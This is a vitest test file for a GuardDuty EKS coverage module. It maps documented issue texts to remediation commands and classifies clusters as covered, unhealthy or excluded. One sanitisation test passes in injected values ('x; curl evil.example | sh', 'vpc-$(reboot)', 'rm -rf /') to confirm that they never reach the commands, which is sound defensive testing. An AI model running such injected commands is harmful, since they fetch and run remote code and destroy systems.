/*
 * The coverage core: one shape for ListCoverage and the events, covered / unhealthy / excluded, and the documented
 * next step for each issue type. The issue texts are the examples of the GuardDuty user guide's troubleshooting tables
 * ("Runtime coverage and troubleshooting for Amazon EKS clusters",
 * https://docs.aws.amazon.com/guardduty/latest/ug/eks-runtime-monitoring-coverage.html), in its documented structure
 * `Issue type:Extra information`.
 */
import { describe, expect, it } from 'vitest';
import {
  type ClusterCoverage,
  classify,
  countCoverage,
  type IssueKind,
  listingShortfall,
  nextStep,
  nodesText,
  splitIssue,
} from '../../handlers/core/coverage.js';

const REGION = 'eu-west-1';
const ACCOUNT = '123456789012';
const MEMBER = '111122223333';
const DETECTOR = '0ab12cd34ef56ab78cd90ef12ab34cd5';
const CONTEXT = { region: REGION, responderAccountId: ACCOUNT, detectorId: DETECTOR };

function cluster(overrides: Partial<ClusterCoverage> = {}): ClusterCoverage {
  return {
    accountId: ACCOUNT,
    clusterName: 'payments-prod',
    coverageStatus: 'UNHEALTHY',
    issue: undefined,
    coveredNodes: 0,
    compatibleNodes: 6,
    addonVersion: 'v1.9.0-eksbuild.1',
    addonStatus: 'DEGRADED',
    managementType: 'AUTO_MANAGED',
    detectorId: DETECTOR,
    updatedAt: new Date('2026-11-20T10:00:00Z'),
    ...overrides,
  };
}

/** The user guide's issue examples, each with the kind of next step it must get and a command it must show. */
const ISSUES: readonly { issue: string; kind: IssueKind; command?: RegExp; actionable?: boolean }[] = [
  {
    issue:
      'Addon Creation Failed:Addon aws-guardduty-agent is not compatible with current cluster version of cluster payments-prod. Addon specified is not supported.',
    kind: 'unsupported-kubernetes-version',
    command: /^aws eks describe-addon-versions --region eu-west-1 --addon-name aws-guardduty-agent /,
  },
  {
    issue:
      'Addon Creation Failed:EKS Addon issue - InsufficientNumberOfReplicas: The add-on is unhealthy because one or more pods is not scheduled 0/3 nodes are available: 3 Insufficient cpu. preemption: not eligible due to preemptionPolicy=Never.',
    kind: 'insufficient-resources',
    command:
      /^aws eks update-addon --region eu-west-1 --cluster-name payments-prod --addon-name aws-guardduty-agent --configuration-values '\{"priorityClassName":"aws-guardduty-agent.priorityclass-high"\}'$/,
  },
  {
    issue:
      'Addon Status Unhealthy:EKS Addon issue - InsufficientNumberOfReplicas: The add-on is unhealthy because one or more pods is not scheduled 0/2 nodes are available: 2 Too many pods. preemption: not eligible due to preemptionPolicy=Never.',
    kind: 'insufficient-resources',
    command: /priorityclass-high/,
  },
  {
    issue:
      'Addon Status Unhealthy:EKS Addon issue - InsufficientNumberOfReplicas: The add-on is unhealthy because one or more pods have waiting containers CrashLoopBackOff: Error',
    kind: 'agent-crashing',
    command:
      /^aws ec2 describe-vpc-endpoints --region eu-west-1 --filters Name=service-name,Values=com\.amazonaws\.eu-west-1\.guardduty-data /,
  },
  {
    issue:
      'Addon Status Unhealthy:EKS Addon issue - InsufficientNumberOfReplicas: The add-on is unhealthy because it does not have the desired number of replicas.',
    kind: 'insufficient-replicas',
    command: /^kubectl describe daemonset -n amazon-guardduty aws-guardduty-agent$/,
  },
  {
    issue:
      'Addon Update Failed:EKS Addon issue - AdmissionRequestDenied: admission webhook "validate.kyverno.svc-fail" denied the request: policy DaemonSet/amazon-guardduty/aws-guardduty-agent for resource violation: restrict-image-registries: autogen-validate-registries',
    kind: 'admission-policy',
  },
  {
    issue:
      'Addon Update Failed:EKS Addon issue - AccessDenied: admission webhook "validation.gatekeeper.sh" denied the request: [allowed-container-registries] container <aws-guardduty-agent> has an invalid image registry',
    kind: 'admission-policy',
  },
  {
    issue:
      'Addon Update Failed:EKS Addon issue - ConfigurationConflict: Conflicts found when trying to apply. Will not continue due to resolve conflicts mode. Conflicts: DaemonSet.apps aws-guardduty-agent - .spec.template.spec.containers[name="aws-guardduty-agent"].image',
    kind: 'configuration-conflict',
    command:
      /^aws eks update-addon --region eu-west-1 --cluster-name payments-prod --addon-name aws-guardduty-agent --resolve-conflicts OVERWRITE$/,
  },
  {
    issue:
      'Addon Update Failed:EKS Addon issue - AccessDenied: priorityclasses.scheduling.k8s.io "aws-guardduty-agent.priorityclass" is forbidden: User "eks:addon-manager" cannot patch resource "priorityclasses" in API group "scheduling.k8s.io" at the cluster scope',
    kind: 'addon-rbac',
    command:
      /^kubectl create clusterrolebinding eks:addon-cluster-admin --clusterrole=cluster-admin --user=eks:addon-manager /,
  },
  {
    issue:
      'VPC Endpoint Creation Failed:Enabling private DNS requires both enableDnsSupport and enableDnsHostnames VPC attributes set to true for vpc-0a1b2c3d4e5f67890 (Service: Ec2, Status Code: 400, Request ID: a1b2c3d4-5678-90ab-cdef-EXAMPLE11111)',
    kind: 'vpc-dns-attributes',
    command:
      /^aws ec2 modify-vpc-attribute --region eu-west-1 --vpc-id vpc-0a1b2c3d4e5f67890 --enable-dns-support '\{"Value":true\}'$/,
  },
  {
    issue:
      'VPC Endpoint Creation Failed:VPC endpoint creation not supported for shared VPC vpc-0a1b2c3d4e5f67890',
    kind: 'shared-vpc',
    command: /^aws guardduty update-detector --region eu-west-1 --detector-id OWNER_DETECTOR_ID /,
  },
  {
    issue:
      "VPC Endpoint Creation Failed:Owner account ID 555555555555 for shared VPC vpc-0a1b2c3d4e5f67890 doesn't have either Runtime Monitoring, automated agent configuration, or both, enabled.",
    kind: 'shared-vpc',
  },
  {
    issue:
      'Shared VPC Endpoint Deletion Failed:Shared VPC endpoint deletion not allowed for account ID 111122223333, shared VPC vpc-0a1b2c3d4e5f67890, owner account ID 555555555555.',
    kind: 'shared-vpc-endpoint-deletion',
    actionable: false,
  },
  {
    issue: 'EKS Runtime Monitoring enablement permission not granted',
    kind: 'runtime-monitoring-toggle',
    command: new RegExp(
      `^aws guardduty update-detector --region eu-west-1 --detector-id ${DETECTOR} --features 'Name=RUNTIME_MONITORING,Status=DISABLED'$`,
    ),
  },
  { issue: 'Others:Error due to authorization failure', kind: 'runtime-monitoring-toggle' },
  {
    issue: 'EKS Runtime Monitoring enablement resource provisioning in progress',
    kind: 'provisioning',
    actionable: false,
  },
  {
    issue:
      'Addon Update Failed:EKS Addon issue - ClusterUnreachable: the cluster API server cannot be reached',
    kind: 'addon-issue',
    command:
      /^aws eks describe-addon --region eu-west-1 --cluster-name payments-prod --addon-name aws-guardduty-agent /,
  },
  {
    issue: 'Something GuardDuty has never said before',
    kind: 'unknown',
    command: /^aws eks describe-addon /,
  },
];

describe('Coverage: the next step per issue type', () => {
  it.each(ISSUES)('gives $kind for "$issue"', ({ issue, kind, command, actionable }) => {
    // Act
    const step = nextStep(cluster({ issue }), CONTEXT);

    // Assess
    expect(step.kind).toBe(kind);
    expect(step.actionable).toBe(actionable ?? true);
    expect(step.advice.length).toBeGreaterThan(20);
    expect(step.docs).toMatch(/^https:\/\/docs\.aws\.amazon\.com\//);
    if (command) expect(step.commands.some((line) => command.test(line))).toBe(true);
  });

  it('warns that OVERWRITE discards direct changes when the add-on is managed by hand, and not when GuardDuty manages it', () => {
    // Prepare
    const issue = ISSUES.find((row) => row.kind === 'configuration-conflict')?.issue;

    // Act
    const auto = nextStep(cluster({ issue, managementType: 'AUTO_MANAGED' }), CONTEXT);
    const manual = nextStep(cluster({ issue, managementType: 'MANUAL' }), CONTEXT);

    // Assess
    expect(auto.advice).toMatch(/GuardDuty manages this add-on/);
    expect(manual.advice).toMatch(/MANUAL.*discards changes made directly/);
    expect(manual.commands).toEqual(auto.commands);
  });

  it("toggles a member's runtime monitoring through the administrator's UpdateMemberDetectors", () => {
    // Act
    const step = nextStep(
      cluster({ accountId: MEMBER, issue: 'EKS Runtime Monitoring enablement permission not granted' }),
      CONTEXT,
    );

    // Assess
    expect(step.commands).toEqual([
      `aws guardduty update-member-detectors --region eu-west-1 --detector-id ${DETECTOR} --account-ids ${MEMBER} --features 'Name=RUNTIME_MONITORING,Status=DISABLED'`,
      `aws guardduty update-member-detectors --region eu-west-1 --detector-id ${DETECTOR} --account-ids ${MEMBER} --features 'Name=RUNTIME_MONITORING,Status=ENABLED,AdditionalConfiguration=[{Name=EKS_ADDON_MANAGEMENT,Status=ENABLED}]'`,
    ]);
  });

  it('never puts text that is not a well-formed name or id into a command', () => {
    // Prepare: a cluster name, Region and VPC id that would run something when pasted into a shell.
    const hostile = cluster({
      clusterName: 'x; curl evil.example | sh',
      issue: 'VPC Endpoint Creation Failed:enableDnsSupport and enableDnsHostnames for vpc-$(reboot)',
    });

    // Act
    const step = nextStep(hostile, { ...CONTEXT, region: 'eu-west-1 && rm -rf /' });

    // Assess
    expect(step.commands).toEqual([
      `aws ec2 modify-vpc-attribute --region REGION --vpc-id VPC_ID --enable-dns-support '{"Value":true}'`,
      `aws ec2 modify-vpc-attribute --region REGION --vpc-id VPC_ID --enable-dns-hostnames '{"Value":true}'`,
    ]);
    const conflict = nextStep({ ...hostile, issue: 'EKS Addon issue - ConfigurationConflict: x' }, CONTEXT);
    expect(conflict.commands.join('\n')).not.toContain('curl');
    expect(conflict.commands[0]).toContain('--cluster-name CLUSTER_NAME');
  });

  it('uses the China partition for the endpoint service name', () => {
    const step = nextStep(
      cluster({ issue: 'EKS Addon issue - InsufficientNumberOfReplicas: CrashLoopBackOff: Error' }),
      {
        ...CONTEXT,
        region: 'cn-north-1',
      },
    );
    expect(step.commands.join('\n')).toContain('Values=cn.com.amazonaws.cn-north-1.guardduty-data');
    expect(step.advice).toContain('guardduty-data.cn-north-1.amazonaws.com.cn');
  });
});

describe('Coverage: covered, unhealthy or excluded', () => {
  it('counts a HEALTHY cluster as covered, whatever else is said about it', () => {
    expect(classify(cluster({ coverageStatus: 'HEALTHY', managementType: 'DISABLED' })).state).toBe(
      'covered',
    );
  });

  it('reports a cluster with agent management DISABLED (GuardDutyManaged=false) as excluded, with the untag command', () => {
    // Act
    const verdict = classify(cluster({ managementType: 'DISABLED' }));
    const step = nextStep(cluster({ managementType: 'DISABLED' }), CONTEXT);

    // Assess
    expect(verdict).toEqual({ state: 'excluded', reason: expect.stringContaining('GuardDutyManaged=false') });
    expect(step).toMatchObject({ kind: 'excluded', actionable: false });
    expect(step.commands).toEqual([
      `aws eks untag-resource --region eu-west-1 --resource-arn arn:aws:eks:eu-west-1:${ACCOUNT}:cluster/payments-prod --tag-keys GuardDutyManaged`,
    ]);
  });

  it('reads an issue that names the exclusion tag as excluded, for events that carry no management type', () => {
    const verdict = classify(
      cluster({ managementType: undefined, issue: 'Cluster excluded: tag GuardDutyManaged is false' }),
    );
    expect(verdict.state).toBe('excluded');
  });

  it('excludes a local (Outposts) cluster, which GuardDuty cannot cover, as not actionable', () => {
    const outposts = cluster({
      issue: 'Local EKS clusters:EKS addons are not supported on local outpost clusters.',
    });
    expect(classify(outposts).state).toBe('excluded');
    expect(nextStep(outposts, CONTEXT)).toMatchObject({ kind: 'unsupported-cluster', actionable: false });
  });

  it('reads a missing coverage status as unhealthy, never as protected', () => {
    expect(classify(cluster({ coverageStatus: undefined, managementType: 'MANUAL' }))).toEqual({
      state: 'unhealthy',
      reason: 'GuardDuty reported no coverage status',
    });
  });

  it('counts each state', () => {
    expect(countCoverage(['covered', 'covered', 'unhealthy', 'excluded'])).toEqual({
      covered: 2,
      unhealthy: 1,
      excluded: 1,
    });
  });
});

describe('Coverage: issue text, node counts, listing check', () => {
  it('splits `Issue type:Extra information` at the first colon only', () => {
    expect(
      splitIssue('Addon Update Failed:EKS Addon issue - ConfigurationConflict: Conflicts found'),
    ).toEqual({
      type: 'Addon Update Failed',
      extra: 'EKS Addon issue - ConfigurationConflict: Conflicts found',
    });
    expect(splitIssue('EKS Runtime Monitoring enablement resource provisioning in progress')).toEqual({
      type: 'EKS Runtime Monitoring enablement resource provisioning in progress',
      extra: undefined,
    });
    expect(splitIssue(undefined)).toEqual({ type: '', extra: undefined });
  });

  it('says how many nodes are covered, or that it is not known', () => {
    expect(nodesText({ coveredNodes: 3, compatibleNodes: 5 })).toBe('3 of 5 covered');
    expect(nodesText({ coveredNodes: undefined, compatibleNodes: 5 })).toBe('? of 5 covered');
    expect(nodesText({ coveredNodes: undefined, compatibleNodes: undefined })).toBe('unknown');
  });

  it('notices when ListCoverage returned fewer clusters than GetCoverageStatistics counts', () => {
    const listed = [cluster(), cluster({ clusterName: 'batch', coverageStatus: 'HEALTHY' })];
    expect(listingShortfall(listed, { healthy: 1, unhealthy: 1 })).toBeUndefined();
    expect(listingShortfall(listed, undefined)).toBeUndefined();
    expect(listingShortfall(listed, { healthy: 1, unhealthy: 3 })).toBe(
      'GuardDuty counts 3 unhealthy and 1 healthy EKS cluster(s), ListCoverage returned 1 and 1',
    );
  });
});
